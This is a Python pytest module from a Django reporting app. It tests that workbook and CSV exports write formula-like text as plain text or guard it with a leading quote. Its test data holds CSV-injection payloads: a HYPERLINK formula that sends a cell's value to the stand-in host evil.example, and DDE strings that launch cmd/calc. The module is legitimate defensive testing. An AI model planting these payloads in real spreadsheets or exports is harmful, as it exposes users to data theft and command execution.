"""No formula injection through the exports: a text that a spreadsheet program would take for
a formula (= + - @ tab, carriage return) is a text cell in every workbook we write, and is
guarded with a leading quote in every CSV; importing the export gives the text back."""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from django.urls import reverse

from dealmonitor.deals.models import Deal
from dealmonitor.impact import exports as impact_exports
from dealmonitor.impact import selectors as impact_selectors
from dealmonitor.impact import services as impact_services
from dealmonitor.impact.models import Measurement
from dealmonitor.imports import columns as C
from dealmonitor.imports.checking import Part, check_parts, guess_mapping
from dealmonitor.imports.reading import read_spreadsheet
from dealmonitor.imports.services import import_checked
from dealmonitor.imports.workbooks import template_workbook
from dealmonitor.learning import services as learning_services
from dealmonitor.reports import exports
from dealmonitor.utils.spreadsheets import TRIGGERS

from .test_exports import _empty_the_database, _import, _snapshot, filled  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'
RISKY = [LINK, "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
# the importer strips spaces around a cell (as before), so these do not come back as they were
# written; they are only checked on the way out
WHITESPACE = ["\t=1+1", "\r=1+1"]


@pytest.fixture
def risky(filled, numeric):
    """The deal of test_exports, published, with risky texts in notes, sources, a lesson and
    the deal's description."""
    Deal.objects.filter(pk=filled.pk).update(is_published=True, description="=1+1")
    for day, text in enumerate(RISKY, start=1):
        impact_services.record_measurement(actor=None, indicator=numeric, date=dt.date(2024, 1, day),
                                           value=day, source=text, note=text)
    learning_services.save_lesson(actor=None, deal=filled, title="@Formule", text=LINK, kind="inzicht",
                                  visibility="programma", learned_on=dt.date(2024, 1, 1))
    return Deal.objects.get(pk=filled.pk)


def formulas(data):
    """The formula cells of an .xlsx, read from its XML (what Excel would evaluate)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(rb"<f>.*?</f>", z.read(name))
    return found


def texts(data):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


def with_whitespace(deal, numeric):
    for day, text in enumerate(WHITESPACE, start=20):
        impact_services.record_measurement(actor=None, indicator=numeric, date=dt.date(2024, 1, day),
                                           value=day, source=text, note=text)


def test_every_workbook_writes_risky_text_as_text(risky, numeric, client, staff_user):
    with_whitespace(risky, numeric)
    anonymous = client.get(reverse("reports:deal_workbook", kwargs={"slug": risky.slug}))
    assert anonymous.status_code == 200
    client.force_login(staff_user)
    portfolio = client.get(reverse("reports:portfolio_workbook"))
    table = impact_selectors.performance_table(risky)
    books = {
        "deal (anonymous)": anonymous.content, "portfolio": portfolio.content,
        "deal (staff)": exports.deal_workbook(staff_user, risky),
        "performance table": impact_exports.performance_xlsx(table, Deal(name="=1+1")),
    }
    for name, data in books.items():
        assert formulas(data) == [], name
        if name != "performance table":
            assert {LINK, "=1+1", "\t=1+1"} <= texts(data), name
    for kind in C.KINDS.values():
        assert formulas(template_workbook(kind)) == []


def test_the_csv_exports_guard_risky_text_and_leave_numbers_alone(risky, numeric, client, staff_user):
    with_whitespace(risky, numeric)
    client.force_login(staff_user)
    body = client.get(reverse("reports:long_csv") + "?csv=analyse").content.decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    sources = {r["bron"] for r in rows}
    assert {"'" + text for text in RISKY + WHITESPACE} <= sources
    assert len(rows) == Measurement.objects.count()  # a carriage return did not break a row
    assert not any(cell.startswith(TRIGGERS) for row in rows for cell in row.values())
    Measurement.objects.filter(source="@SUM(A1:A9)").update(value=-12.5)
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("reports:long_csv") + "?csv=analyse").content.decode())))
    assert "-12.5" in {r["waarde"] for r in rows}  # a negative number stays a number
    table = impact_selectors.performance_table(risky)
    performance = impact_exports.performance_csv(table).decode()
    assert not any(cell.startswith(TRIGGERS) and not cell.lstrip("-").replace(".", "").isdigit()
                   for row in csv.reader(io.StringIO(performance, newline="")) for cell in row)


@pytest.mark.parametrize("workbook", ["portfolio", "deal"])
def test_risky_text_survives_the_round_trip_of_a_workbook(risky, staff_user, workbook):
    before = _snapshot()
    assert set(RISKY) <= {m[4] for m in before["measurements"]}
    data = (exports.portfolio_workbook(staff_user) if workbook == "portfolio"
            else exports.deal_workbook(staff_user, risky))
    _empty_the_database()
    _import(data)
    assert _snapshot() == before
    assert set(RISKY) <= set(Measurement.objects.values_list("note", flat=True))


def test_risky_text_survives_the_round_trip_of_the_long_csv(risky, client, staff_user):
    client.force_login(staff_user)
    body = client.get(reverse("reports:long_csv") + "?deal=cd-proef").content
    sources = sorted(Measurement.objects.values_list("source", flat=True))
    Measurement.objects.all().delete()
    sheets = read_spreadsheet(body, "metingen.csv")
    kind = C.MEASUREMENTS
    mapping = guess_mapping(kind, sheets[0].headers)
    mapping["bewijs_url"] = None  # the long format's 'bewijs' is ja/nee, not an address
    parts = [Part(kind, sheets[0], mapping)]
    result = check_parts(staff_user, parts, previews=False)
    assert result.ok, [str(p) for p in result.problems][:5]
    import_checked(actor=staff_user, result=result)
    assert sorted(Measurement.objects.values_list("source", flat=True)) == sources
